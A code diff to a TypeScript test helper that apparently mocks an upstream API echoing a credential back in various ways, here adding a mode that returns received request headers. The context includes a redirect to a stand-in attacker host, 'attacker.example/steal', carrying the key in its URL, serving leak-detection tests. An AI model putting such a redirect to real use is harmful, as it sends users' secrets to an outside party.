@@ -32,7 +32,8 @@ function credential(req: IncomingMessage, url: URL): string {
  * - `status-<N>` (default `status-400`): a JSON error with status N quoting the key, plus headers quoting it;
  * - `redirect`: a 302 whose Location carries the key;
  * - `stream-error`: a 200 SSE stream with one content event, then an error event quoting the key;
- * - `json`: a 200 JSON answer quoting the key in its text.
+ * - `json`: a 200 JSON answer quoting the key in its text;
+ * - `headers`: a 200 JSON answer listing the request headers it received (the credential among them).
  */
 export async function startKeyEcho(port = 0): Promise<KeyEcho> {
   const records: EchoRecord[] = [];
@@ -61,6 +62,12 @@ export async function startKeyEcho(port = 0): Promise<KeyEcho> {
         "set-cookie": `session=${key}`,
       };
       const message = `Incorrect API key provided: ${key}. You sent ${key}.`;
+      if (mode === "headers") {
+        // What this upstream received, for tests that cannot read `records` (a Worker in workerd).
+        res.writeHead(200, { "content-type": "application/json" });
+        res.end(JSON.stringify({ target: req.url, headers }));
+        return;
+      }
       if (mode === "redirect") {
         res.writeHead(302, { ...quoting, location: `https://attacker.example/steal?key=${key}` });
         res.end(message);
